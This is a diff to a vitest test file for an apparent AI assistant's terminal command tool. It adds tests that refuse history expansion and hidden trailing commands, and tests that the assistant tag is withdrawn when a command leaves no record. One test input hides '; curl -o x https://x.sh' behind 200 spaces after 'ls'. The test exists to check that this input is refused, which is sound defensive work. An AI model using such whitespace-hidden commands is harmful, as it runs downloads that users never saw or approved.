@@ -1,7 +1,9 @@
 // SPDX-License-Identifier: MIT
 import { describe, expect, it, vi } from 'vitest';
+import { runInTerminal } from './command-run';
 import { historyExpansion } from './run-command-args';
-import { setUp } from './testing/turn-harness';
+import { FakeTerminals } from './testing/fake-terminals';
+import { IDLE, setUp } from './testing/turn-harness';
 
 describe('run_command: what runs is the line the user read', () => {
   it.each([
@@ -12,6 +14,12 @@ describe('run_command: what runs is the line the user read', () => {
   ])('refuses %s (history expansion: %s)', async (command) => {
     const t = setUp();
     await expect(t.call(command)).rejects.toThrow(/history/);
+    expect(t.steps).toEqual([]);
+  });
+
+  it('refuses a run of spaces that would push the rest of the line out of sight', async () => {
+    const t = setUp();
+    await expect(t.call(`ls${' '.repeat(200)}; curl -o x https://x.sh`)).rejects.toThrow(/run of spaces/);
     expect(t.steps).toEqual([]);
   });
 
@@ -106,5 +114,22 @@ describe('run_command: decisions that cannot run fail safe', () => {
       expect(proposed).toMatchObject({ target: 'new-pane', sessionId: null, autoRun: true });
       expect(t.terminals.typed).toEqual([]);
     }
+  });
+});
+
+describe('runInTerminal: a command that leaves no record', () => {
+  it('withdraws the assistant tag, so the user\'s next command is not taken for the assistant\'s', async () => {
+    const terminals = new FakeTerminals({ s1: IDLE });
+    terminals.swallow = true;
+    const run = (signal: AbortSignal) =>
+      runInTerminal({ port: terminals, sessionId: 's1', command: 'ls', handOverMs: 60_000, signal, startTimeoutMs: 30, pollMs: 10 });
+    expect(await run(new AbortController().signal)).toEqual({ kind: 'not-started' });
+    expect(terminals.expecting('s1')).toBe(false);
+    const stop = new AbortController();
+    const stopped = run(stop.signal);
+    expect(terminals.expecting('s1')).toBe(true);
+    stop.abort();
+    expect(await stopped).toMatchObject({ kind: 'stopped', record: undefined });
+    expect(terminals.expecting('s1')).toBe(false);
   });
 });
